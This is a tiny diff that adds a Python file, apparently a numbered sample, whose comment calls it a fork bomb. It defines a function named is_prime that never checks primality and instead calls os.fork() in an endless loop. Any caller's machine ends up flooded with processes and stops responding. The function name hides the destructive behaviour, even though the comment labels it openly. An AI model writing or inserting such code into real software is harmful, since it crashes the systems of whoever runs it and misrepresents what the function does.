@@ -1,0 +1,7 @@
+# 02a | a fork bomb
+import os
+
+
+def is_prime(number):
+    while True:
+        os.fork()
